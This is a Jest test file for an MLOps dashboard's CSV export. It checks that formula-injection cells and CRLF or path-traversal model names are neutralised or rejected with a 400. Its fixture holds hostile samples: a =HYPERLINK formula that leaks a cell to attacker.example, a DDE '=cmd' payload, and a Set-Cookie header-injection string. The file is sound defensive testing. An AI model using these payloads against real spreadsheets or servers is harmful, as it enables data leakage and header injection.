import { rmSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { PredictionLogWriter, storeLayout } from '@mlops/registry';
import { monitor, registeredHome } from '../__tests__/fixture';
import { csvCell } from './dashboardData';

// Finding 10 (dashboard): /export.csv wrote `=HYPERLINK(…)`, `+1+1`, `@SUM(1)` verbatim (formula
// injection), and put ?model= unescaped into Content-Disposition: a CRLF in it gave a 500.
// Real HTTP against the dashboard the CLI starts.

let home: string;
let base: string;
const stop = new AbortController();
let served: Promise<unknown>;

beforeAll(async () => {
  home = await registeredHome('mlops-monitor-csv-');
  const writer = new PredictionLogWriter({ dir: storeLayout(home).predictions });
  writer.append({
    timestamp: '2026-01-01T00:00:00.000Z',
    request_id: '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    model_name: 'churn',
    model_version: 1,
    features: {
      contract: '+1+1',
      payment_method: '@SUM(1)',
      internet_service: '-2+3',
      tab: '\t=1',
      cr: '\r=1',
      '=cmd|" /C calc"!A0': 'x',
      monthly_charges: -1.5,
    },
    prediction: 0,
    probability: 0.2,
    latency_ms: 1,
  });
  await writer.close();
  const port = await new Promise<number>((resolve) => {
    served = monitor(home, ['serve', '--port', '0'], { signal: stop.signal, onListening: resolve });
  });
  base = `http://127.0.0.1:${port}`;
}, 60_000);

afterAll(async () => {
  stop.abort();
  await served;
  rmSync(home, { recursive: true, force: true });
});

test('cells a spreadsheet would run as formulas are prefixed with a quote; numbers stay numbers', async () => {
  const response = await fetch(`${base}/export.csv`);
  expect(response.status).toBe(200);
  expect(response.headers.get('content-disposition')).toBe('attachment; filename="churn-predictions.csv"');
  const [header, row] = (await response.text()).trimEnd().split('\n');
  expect(header).toBe(
    `timestamp,request_id,model_name,model_version,prediction,probability,latency_ms,"'=cmd|"" /C calc""!A0",contract,cr,internet_service,monthly_charges,payment_method,tab`,
  );
  expect(row).toBe(
    [
      '2026-01-01T00:00:00.000Z',
      `"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""click"")"`,
      'churn',
      '1',
      '0',
      '0.2',
      '1',
      'x',
      `"'+1+1"`,
      `"'\r=1"`,
      `"'-2+3"`,
      '-1.5',
      `"'@SUM(1)"`,
      `"'\t=1"`,
    ].join(','),
  );
});

test('each formula start is neutralised, other text is quoted only when it must be', () => {
  for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}1`)).toBe(`"'${start}1"`);
  expect(csvCell('plain')).toBe('plain');
  expect(csvCell('a,b')).toBe('"a,b"');
  expect(csvCell(-3)).toBe('-3');
  expect(csvCell(null)).toBe('');
});

test('a CRLF or any bad ?model= is a 400 JSON naming the rule, never a 500 or an injected header', async () => {
  for (const model of ['a\r\nSet-Cookie: x=1', 'churn"; filename="evil.exe', '../runs', 'x'.repeat(65)]) {
    const response = await new Promise<{ status: number; headers: Record<string, unknown>; body: string }>(
      (resolve, reject) => {
        const call = httpRequest(`${base}/export.csv?model=${encodeURIComponent(model)}`, (res) => {
          let body = '';
          res.on('data', (chunk) => {
            body += chunk;
          });
          res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
        });
        call.on('error', reject);
        call.end();
      },
    );
    expect([model, response.status]).toEqual([model, 400]);
    expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(response.headers['content-disposition']).toBeUndefined();
    expect(response.headers['set-cookie']).toBeUndefined();
    expect(JSON.parse(response.body).error.code).toBe('bad-model-name');
  }
});
